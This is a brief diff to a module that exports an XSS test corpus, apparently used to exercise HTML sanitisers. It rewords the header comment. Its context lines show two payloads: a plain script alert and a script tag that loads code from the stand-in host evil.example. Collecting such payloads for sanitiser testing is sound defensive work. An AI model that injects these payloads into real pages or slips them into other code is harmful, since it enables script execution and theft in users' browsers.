@@ -1,4 +1,4 @@
-/** Markup that ran a script somewhere once: in browsers of every age, and through sanitisers by many hands. */
+/** Markup that once executed a script: in browsers of all ages, and past many sanitisers. */
 export const xssCorpus = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
